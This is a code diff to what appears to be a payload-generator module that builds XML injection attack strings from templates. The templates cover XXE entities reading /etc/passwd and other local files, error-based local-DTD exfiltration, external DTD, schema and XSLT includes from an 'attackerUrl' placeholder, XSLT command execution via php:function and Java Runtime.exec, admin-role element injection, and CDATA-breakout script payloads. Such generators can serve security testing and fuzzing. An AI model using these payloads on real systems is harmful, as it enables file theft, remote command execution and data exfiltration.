@@ -79,14 +79,22 @@ export const xmlTemplates = family('other-injection/xml', {
   soap: same(
     entity,
     (name) =>
-      text`<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % ${name} ${system}> %${name};]><xxx/>]]></foo></soap:Body>`
+      text`<${same(words('soap soapenv SOAP-ENV env'), (prefix) => text`${prefix}:Body><${root}><![CDATA[<!DOCTYPE ${root} [<!ENTITY % ${name} ${system}>%${name};]><${root}/>]]></${root}></${prefix}:Body`)}>`
   ),
   'local-dtd': text`<!DOCTYPE ${root} [<!ENTITY % local_dtd SYSTEM "file:///${oneOf('usr/share/yelp/dtd/docbookx.dtd', 'usr/share/xml/fontconfig/fonts.dtd', 'C:\\Windows\\System32\\wbem\\xml\\cim20.dtd', text`opt/${lowerWord}/${lowerWord}.dtd`)}"><!ENTITY % ${words('ISOamso expr constant SuperClass')} '<!ENTITY &#x25; file SYSTEM "file:///${unixFile}"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///x/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;'>%local_dtd;]>`,
   'cdata-wrapping': text`<!ENTITY % start "<![CDATA["><!ENTITY % ${entity} ${system}><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "${attackerUrl}">%dtd;`,
   'declared-elements': text`<!DOCTYPE ${root} [<!ELEMENT ${root} (#${words('ANY PCDATA CDATA')})>${maybe(text`<!ATTLIST ${root} ${lowerWord} CDATA #REQUIRED>`)}<!ENTITY ${entity} ${oneOf(system, text`"${lowerWord}"`)}>]>`,
   'schema-location': text`<${root} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:${words('schemaLocation noNamespaceSchemaLocation')}="${attackerUrl}"${oneOf('/>', text`></${root}>`)}`,
   'injected-elements': text`${lowerWord}</${same(words('user name role password item price login'), (name) => text`${name}><${oneOf('role', 'isAdmin', 'admin', 'uid', 'price')}>${oneOf('admin', 'true', '0', '1')}</${words('role isAdmin admin uid price')}><${name}`)}>${lowerWord}`,
-  'cdata-breakout': text`${oneOf(']]>', '<![CDATA[', ']]><!--', ']]]]><![CDATA[>')}${oneOf(text`<${lowerWord}>`, '<', text`<!ENTITY x SYSTEM "${target}">`, text`<![CDATA[<script>${lowerWord}(${integer(1, 9)})</script>]]>`, text`<![CDATA[<]]>SCRIPT<![CDATA[>]]>alert(${integer(1, 99)})<![CDATA[<]]>/SCRIPT<![CDATA[>]]>`)}`,
+  'cdata-breakout': text`${oneOf(']]>', '<![CDATA[', ']]><!--', ']]]]><![CDATA[>')}${oneOf(
+    text`<${lowerWord}>`,
+    '<',
+    text`<!ENTITY x SYSTEM "${target}">`,
+    text`<![CDATA[<script>${lowerWord}(${integer(1, 9)})</script>]]>`,
+    altered(text`<script>alert(${integer(1, 99)})</script>`, (markup) =>
+      markup.replace(/[<>]/g, (mark) => `<![CDATA[${mark}]]>`)
+    )
+  )}`,
   xslt: text`${declaration}<xsl:stylesheet version="${words('1.0 2.0')}" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"${oneOf(' xmlns:php="http://php.net/xsl"', ' xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"', ' xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:user="urn:my-scripts"', '', ' xmlns:exploit="http://exslt.org/common"')}><xsl:template match="/">${oneOf(text`<xsl:value-of select="php:function('${words('system shell_exec file_get_contents passthru scandir')}','${oneOf(command, '/etc/passwd')}')"/>`, text`<xsl:value-of select="${oneOf("system-property('xsl:vendor')", "document('/etc/passwd')", text`document('${attackerUrl}')`, "unparsed-text('/etc/passwd','utf-8')")}"/>`, text`<xsl:variable name="rtobject" select="rt:getRuntime()"/><xsl:variable name="process" select="rt:exec($rtobject,'${simpleCommand}')"/>`, text`<xsl:include href="${attackerUrl}"/>`, text`<xsl:copy-of select="document('file:///${unixFile}')"/>`)}</xsl:template></xsl:stylesheet>`,
   'xslt-fragment': text`<xsl:${oneOf(text`value-of select="${oneOf(text`php:function('${words('system passthru')}','${simpleCommand}')`, "system-property('xsl:version')", text`document('${target}')`)}"/`, text`include href="${attackerUrl}"/`, text`import href="${attackerUrl}"/`)}>`
 });
